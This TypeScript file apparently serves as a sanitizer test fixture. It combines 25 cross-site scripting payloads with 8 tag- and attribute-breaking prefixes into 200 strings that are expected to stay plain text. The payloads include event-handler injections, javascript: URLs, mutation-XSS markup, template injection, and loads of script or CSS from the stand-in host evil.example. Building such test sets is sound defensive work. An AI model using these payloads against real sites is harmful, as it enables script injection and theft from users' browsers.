// Each tries to run `pwned()`, to add an element to the page, or to leave the page.
const payloads = [
  '<script>pwned()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()" alt=é🔔>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<form action="javascript:pwned()"><button>Save</button></form>',
  '<a href="javascript:pwned()">Connect</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<template><script>pwned()</script></template>',
  '<x-evil is=pwned onclick=pwned()>',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '{"__html":"<img src=x onerror=pwned()>","dangerouslySetInnerHTML":{"__html":"<b>x</b>"}}',
]

// Each closes what may surround the text: a tag, an attribute, a script or a comment.
const openings = [
  '',
  '">',
  "'>",
  '" onmouseover="pwned()" x="',
  '</script>',
  '</title></textarea></style>',
  '--><!--x-->',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template engine would run this.
  ']]>\u0000\u2028${pwned()}{{constructor.constructor("pwned()")()}}',
]

/** 200 strings that must always stay plain text. */
export const hostileStrings: readonly string[] = openings.flatMap((opening) =>
  payloads.map((payload) => opening + payload),
)
